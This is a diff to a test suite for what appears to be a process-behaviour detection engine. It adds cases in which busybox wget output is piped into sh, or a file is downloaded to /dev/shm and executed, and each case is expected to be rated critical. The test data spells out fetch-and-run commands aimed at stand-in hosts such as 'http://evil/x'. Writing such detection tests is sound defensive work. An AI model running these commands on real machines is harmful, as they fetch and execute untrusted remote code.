@@ -789,6 +789,33 @@ describe("evaluate: severity and reasons", () => {
         "curl download is piped to a shell (sh) in the parent's command line",
       ],
       [
+        "parent: busybox sh through its symlink (Alpine), path /bin/busybox and name sh",
+        withAncestors(processEvent({ name: "wget", path: "/bin/busybox", args: ["-qO-", "http://evil/x"] }), [
+          { name: "sh", path: "/bin/busybox", args: ["-c", "wget -qO- http://evil/x | sh"] },
+        ]),
+        "critical",
+        "wget download is piped to a shell (sh) in the parent's command line",
+      ],
+      [
+        "parent: busybox sh through its symlink runs the downloaded file",
+        withAncestors(
+          processEvent({
+            name: "wget",
+            path: "/bin/busybox",
+            args: ["-q", "-O", "/dev/shm/.k", "http://x/k"],
+          }),
+          [
+            {
+              name: "sh",
+              path: "/bin/busybox",
+              args: ["-c", "cd /dev/shm && wget -q -O .k http://x/k && ./.k"],
+            },
+          ],
+        ),
+        "critical",
+        "the file wget downloads (/dev/shm/.k) is then executed",
+      ],
+      [
         'grandparent: bash -c "bash <(wget …)"',
         withAncestors(run("/usr/bin/wget", "-qO-", "http://evil/x"), [
           { path: "/bin/bash", args: ["/dev/fd/63"] },
